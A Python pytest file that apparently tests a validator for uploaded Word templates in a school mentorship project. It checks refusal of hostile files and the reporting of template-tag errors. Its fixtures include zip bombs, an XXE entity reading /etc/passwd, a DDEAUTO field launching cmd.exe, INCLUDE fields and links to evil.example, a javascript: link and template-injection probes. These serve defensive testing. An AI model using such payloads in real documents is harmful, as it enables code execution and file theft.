"""A Word file that is to be a template: hostile ones are refused, wrong tags are named with their place."""

import io
import struct
import time
import zipfile
from collections.abc import Callable, Mapping
from functools import cache
from typing import Any

import pytest
from docx import Document

from moodle_mentorship.files import docx
from moodle_mentorship.files.checking import LARGEST, checked
from moodle_mentorship.files.enums import Flaw, Part
from moodle_mentorship.files.template_reader import check
from moodle_mentorship.files.words import FLAWS, PARTS
from tests.files.test_docx import written

VALUES: Mapping[str, Any] = {
    "organisation": "МБОУ «Лицей № 7»",
    "heading": "О закреплении",
    "director": {"post": "Директор", "name": "М. П. Иванова"},
    "rows": [{"number": "1", "mentor": "Тихонов"}, {"number": "2", "mentor": "Ёлкина", "note": "группа"}],
    "texts": ["раз", "два"],
    "doc": {"date": "1", "number": "2", "qr": docx.QrCode("https://school.example/d/1")},
}
PLAIN = written("{{ heading }}")

RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def flaws(content: bytes) -> list[Flaw]:
    return [problem.flaw for problem in check(content, VALUES).problems]


def repacked(change: Callable[[dict[str, bytes]], object], content: bytes = PLAIN) -> bytes:
    """The file with other parts."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {part: archive.read(part) for part in archive.namelist()}
    change(parts)
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return target.getvalue()


def with_part(name: str, content: bytes = b"x") -> bytes:
    return repacked(lambda parts: parts.update({name: content}))


def with_relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    relation = f'<Relationship Id="rId99" Type="{RELATION}/{kind}" Target="{target}"{mode}/></Relationships>'
    path = "word/_rels/document.xml.rels"
    return repacked(
        lambda parts: parts.update({path: parts[path].replace(b"</Relationships>", relation.encode())}),
    )


def with_body(xml: str) -> bytes:
    """A paragraph more, of this markup."""
    paragraph = f"<w:body><w:p>{xml}</w:p>".encode()
    path = "word/document.xml"
    return repacked(lambda parts: parts.update({path: parts[path].replace(b"<w:body>", paragraph)}))


def field(*codes: str) -> str:
    """A field of Word, its code cut into these runs."""
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    begin, end = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    return f"{begin}{runs}{end}"


def typed_as(kind: bytes) -> bytes:
    name = "[Content_Types].xml"
    main = b"wordprocessingml.document.main+xml"
    return repacked(lambda parts: parts.update({name: parts[name].replace(main, kind)}))


def lying_about_its_size() -> bytes:
    """60 MB of zeros that name themselves ten bytes."""
    content = bytearray(with_part("word/big.xml", b"0" * (60 * 1024 * 1024)))
    true, told = struct.pack("<I", 60 * 1024 * 1024), struct.pack("<I", 10)
    return bytes(content.replace(true, told))


@cache
def bomb() -> bytes:
    return with_part("word/media/image1.png", b"0" * (200 * 1024 * 1024))


HOSTILE: dict[str, tuple[Callable[[], bytes], Flaw]] = {
    "a bomb of 200 MB": (bomb, Flaw.BOMB),
    "a bomb that lies": (lying_about_its_size, Flaw.DAMAGED),
    "a thousand parts": (
        lambda: repacked(lambda parts: parts.update({f"word/{n}.xml": b"<a/>" for n in range(1000)})),
        Flaw.BOMB,
    ),
    "nothing": (lambda: b"", Flaw.NOT_WORD),
    "a PDF": (lambda: b"%PDF-1.4", Flaw.NOT_WORD),
    "an old or an encrypted Word file": (lambda: b"\xd0\xcf\x11\xe0" + b"0" * 100, Flaw.LOCKED),
    "an archive of something else": (
        lambda: repacked(lambda parts: parts.pop("[Content_Types].xml")),
        Flaw.NOT_WORD,
    ),
    "half a file": (lambda: PLAIN[: len(PLAIN) // 2], Flaw.DAMAGED),
    "broken markup": (lambda: with_part("word/settings.xml", b"<w:settings>"), Flaw.DAMAGED),
    "an entity": (
        lambda: with_part("word/settings.xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
        Flaw.DTD,
    ),
    "a macro": (lambda: with_part("word/vbaProject.bin"), Flaw.MACROS),
    "the kind with macros": (
        lambda: typed_as(b"ms-word.document.macroEnabled.main+xml"),
        Flaw.MACROS,
    ),
    "a template of Word": (lambda: typed_as(b"wordprocessingml.template.main+xml"), Flaw.NOT_WORD),
    "an embedded file": (lambda: with_part("word/embeddings/oleObject1.bin"), Flaw.EMBEDDED),
    "an embedded workbook": (lambda: with_part("word/embeddings/book.xlsx"), Flaw.EMBEDDED),
    "a control": (lambda: with_part("word/activeX/activeX1.xml", b"<a/>"), Flaw.CONTROL),
    "a picture that is a program": (lambda: with_part("word/media/image1.svg", b"<svg/>"), Flaw.PICTURE),
    "an object": (lambda: with_body("<w:r><w:object/></w:r>"), Flaw.EMBEDDED),
    "a picture from outside": (lambda: with_relation("image", "http://evil.example/a.png"), Flaw.LINKED),
    "a template from outside": (lambda: with_relation("attachedTemplate", "http://evil.example/a.dotm"), Flaw.TIED),
    "a frame": (lambda: with_relation("frame", "//evil.example/a"), Flaw.LINKED),
    "a link into the machine": (lambda: with_relation("hyperlink", "file:///etc/passwd"), Flaw.LINKED),
    "a link that runs": (lambda: with_relation("hyperlink", "javascript:alert(1)"), Flaw.LINKED),
    "another document": (lambda: with_relation("aFChunk", "/word/a.html", ""), Flaw.CHUNK),
    "a chunk": (lambda: with_body("<w:altChunk/>"), Flaw.CHUNK),
    "a field DDE": (lambda: with_body(field("DDEAUTO c:\\\\cmd.exe &quot;/k calc&quot;")), Flaw.FIELD),
    "a field that is cut": (lambda: with_body(field("INCLUDE", "TEXT ", "http://evil.example/a")), Flaw.FIELD),
    "a picture by a field": (
        lambda: with_body('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example&quot;"/>'),
        Flaw.FIELD,
    ),
    "a formula": (lambda: with_body(field(" = 2 + 2 ")), Flaw.FIELD),
    "the day of opening": (lambda: with_body(field("DATE")), Flaw.FIELD),
    "a field that a field names": (
        lambda: with_body('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + field("REF a")),
        Flaw.FIELD,
    ),
    "mail merge": (lambda: with_part("word/more.xml", b'<w:mailMerge xmlns:w="a"/>'), Flaw.LINKED),
    "tracked changes": (lambda: with_body("<w:ins><w:r><w:t>а</w:t></w:r></w:ins>"), Flaw.TRACKED),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused(name: str) -> None:
    make, flaw = HOSTILE[name]
    content = make()
    assert len(content) < LARGEST
    assert flaws(content) == [flaw]


def test_what_templates_are_made_of_is_taken() -> None:
    harmless = [
        with_body(field(" PAGE  \\* MERGEFORMAT ") + field("NUMPAGES")),
        with_relation("hyperlink", "https://school.example/"),
        with_part("word/media/image1.png"),
        written("{% if doc.qr %}{{ doc.qr }}{% endif %}{{ texts|join(', ') }}{{ rows|length }}{{ texts[0] }}"),
        written("{% for row in rows %}{{ loop.index }}{{ row.mentor }}{{ row.note|default('') }}{% endfor %}"),
    ]
    assert [flaws(content) for content in harmless] == [[]] * len(harmless)


TAGS = {
    "{{ directer.name }}": (Flaw.UNKNOWN, "directer", ["director"]),
    "{{ director.nmae }}": (Flaw.UNKNOWN, "director.nmae", ["director.name"]),
    "{{ loop.index }}": (Flaw.UNKNOWN, "loop", []),
    "{% for row in rows %}{{ row.salary }}{% endfor %}": (Flaw.UNKNOWN, "row.salary", []),
    "{{ rows }}": (Flaw.WHOLE, "rows", []),
    "{{ director }}": (Flaw.WHOLE, "director", []),
    "{% for a in heading %}{% endfor %}": (Flaw.NO_LIST, "heading", []),
    "{% for a in rows %}": (Flaw.UNPAIRED, "for", []),
    "{% if heading %}{% endfor %}": (Flaw.UNPAIRED, "endfor", []),
    "{% else %}": (Flaw.UNPAIRED, "else", []),
    "{{ heading": (Flaw.UNCLOSED, None, []),
    "{{ heading + }}": (Flaw.SYNTAX, "{{ heading + }}", []),
    "{%p if heading %}": (Flaw.LOST, "{%p if heading %}", []),
    "{% set a = 1 %}": (Flaw.FORBIDDEN, "set", []),
    "{% include 'a' %}": (Flaw.FORBIDDEN, "include", []),
    "{{ heading.__class__ }}": (Flaw.FORBIDDEN, "__class__", []),
    "{{ range(1000000000) }}": (Flaw.FORBIDDEN, "range(…)", []),
    "{{ heading.upper() }}": (Flaw.FORBIDDEN, "upper(…)", []),
    "{{ heading|pprint }}": (Flaw.FORBIDDEN, "|pprint", []),
    "{{ heading ~ heading }}": (Flaw.FORBIDDEN, "~", []),
}


@pytest.mark.parametrize("tag", TAGS)
def test_a_wrong_tag_is_named_with_its_place(tag: str) -> None:
    flaw, what, near = TAGS[tag]
    found = [one for one in check(written("Школа", f"Приказ {tag} далее"), VALUES).problems if one.flaw is flaw]
    problem = found[0]
    assert (problem.params.get("what"), list(problem.near)) == (what, near)
    assert problem.place is not None
    assert (problem.place.part, problem.place.paragraph, problem.place.table) == (Part.BODY, 2, None)
    assert tag[:10] in problem.place.text


def test_all_flaws_of_a_file_are_told_at_once() -> None:
    text = "{% for row in rows %}{{ row.salary }}{% if a %}{{ haeding }}{% endfor %}{{ heading }}"
    told = [(one.flaw, one.params["what"]) for one in check(written(text), VALUES).problems]
    assert told == [
        *[(Flaw.UNPAIRED, "endfor"), (Flaw.UNPAIRED, "if"), (Flaw.UNPAIRED, "for")],
        *[(Flaw.UNKNOWN, "row.salary"), (Flaw.UNKNOWN, "a"), (Flaw.UNKNOWN, "haeding")],
    ]


def test_places_in_tables_headers_and_cut_runs() -> None:
    document = Document()
    document.add_table(1, 1)
    table = document.add_table(3, 2)
    table.cell(2, 1).text = "{{ wrong }}"
    runs = document.add_paragraph("до ")
    for run in ("{", "{ twi", "ce", " }", "}"):
        runs.add_run(run).bold = run == "ce"
    document.sections[0].header.paragraphs[0].text = "{{ above }}"
    target = io.BytesIO()
    document.save(target)
    told = {
        problem.params["what"]: problem.place and (problem.place.part, problem.place.table, problem.place.row)
        for problem in check(target.getvalue(), VALUES).problems
    }
    assert told == {"wrong": (Part.BODY, 2, 3), "twice": (Part.BODY, None, None), "above": (Part.HEADER, None, None)}


def test_found_names_and_those_that_are_missing() -> None:
    read = check(written("{{ heading }} {% for row in rows %}{{ row.mentor }}{% endfor %} {{ heading }}"), VALUES)
    assert [one.name for one in read.found] == ["heading", "rows", "row.mentor"]
    assert read.unused("heading", "doc.number", "rows", "director") == ["doc.number", "director"]


def test_the_work_is_done_elsewhere_and_ends() -> None:
    good = checked(PLAIN, VALUES)
    assert (good.problems, [one.name for one in good.found]) == ([], ["heading"])
    (wrong,) = checked(written("{{ haeding }}"), VALUES).problems
    assert (wrong.flaw, wrong.place and wrong.place.part, wrong.near) == (Flaw.UNKNOWN, Part.BODY, ["heading"])
    assert [one.flaw for one in checked(b"PK" + b"0" * LARGEST, VALUES).problems] == [Flaw.LARGE]
    # A thousand million words.
    loops = "{% for a in texts %}{% for b in texts %}{% for c in texts %}Договор{% endfor %}{% endfor %}{% endfor %}"
    started = time.monotonic()
    endless = checked(written(loops), {"texts": ["а"] * 1000})
    assert [one.flaw for one in endless.problems] == [Flaw.ENDLESS]
    assert time.monotonic() - started < 30


def test_every_flaw_has_its_words() -> None:
    assert set(FLAWS) == set(Flaw)
    assert set(PARTS) == set(Part)
